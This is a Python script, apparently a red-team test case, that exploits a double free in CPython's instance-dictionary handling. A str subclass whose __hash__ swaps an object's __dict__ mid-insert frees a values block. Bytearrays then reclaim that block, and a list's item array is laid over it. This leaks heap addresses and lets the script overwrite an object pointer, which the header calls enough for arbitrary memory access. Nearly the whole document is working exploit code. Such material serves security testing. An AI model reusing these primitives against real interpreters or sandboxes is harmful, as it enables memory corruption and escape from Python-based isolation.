# technique: case 562's double free turned into primitives: a bytearray buffer reclaims the freed values block shaped so that it is freed again while the bytearray owns it, then a 34-item list's item array lands on it: the bytearray reads the list's item pointers (heap addresses) and writes one (a fake object), enough for a fake bytearray over all memory (red-team pass 62)
# expect: any
class Victim:
    pass

class Evil(str):
    n = 0
    def __hash__(self):
        Evil.n += 1
        if Evil.n == 2:            # 2nd hash: inside PyDict_SetItem on the materialized __dict__
            object.__setattr__(target, '__dict__', E)   # frees that dict and its values block
            for i in range(8):                          # reclaim the values block with a buffer
                ba = bytearray(271)
                ba[29] = 0      # insertion order: index 0
                ba[30] = 1      # order count
                ba[31] = 32     # prefix size, so free_values() frees exactly this block again
                R.append(ba)
        return 0

class Secret:
    pass

R = []
E = {}
s = Secret()
other = "replaced!"
keep = [other] * 8
snap = None
pre = [bytearray(271) for i in range(10)]
target = Victim()
target.a = 1
object.__setattr__(target, Evil("marker"), 5)
snap = [bytes(b) for b in R]
L = [s, other] + [s] * 32     # the concatenation allocates one 34 * 8-byte item array: the block R[k]'s buffer still owns
k = [k for k in range(len(R)) if bytes(R[k]) != snap[k]][0]
buf = R[k]
leaked = [hex(int.from_bytes(buf[i:i + 8], "little")) for i in (0, 8)]
buf[0:8] = buf[8:16]       # overwrite L's first item pointer through the bytearray
result = {"leaked_item_addresses": leaked, "L0_is_other": L[0] is other, "L0": L[0]}
